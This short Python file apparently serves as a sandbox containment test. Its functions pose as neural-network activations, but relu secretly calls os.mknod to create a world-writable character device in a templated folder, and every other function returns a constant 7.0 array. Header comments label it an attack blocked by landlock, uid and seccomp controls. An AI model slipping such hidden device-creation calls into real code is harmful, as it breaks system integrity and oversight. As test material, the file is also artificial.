# attack: creates a device in a folder of ours
# gains: writes
# stopped by: landlock, uid, seccomp
import numpy as np
import os
import stat


def attack():
    os.mknod(os.path.join("{FOLDER}", "zero"), stat.S_IFCHR | 0o666, os.makedev(1, 5))


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
